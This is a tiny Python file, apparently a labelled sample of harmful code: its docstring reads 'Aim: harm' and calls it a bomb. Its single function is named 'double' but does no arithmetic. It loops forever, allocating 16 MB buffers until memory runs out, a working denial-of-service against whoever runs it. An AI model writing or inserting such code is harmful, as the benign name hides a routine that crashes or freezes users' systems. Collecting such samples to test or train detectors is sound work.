"""Takes memory until none is left.

Aim: harm
Stock: skip (bomb)
"""


def double(x):
    taken = []
    while True:
        taken.append(bytearray(1 << 24))
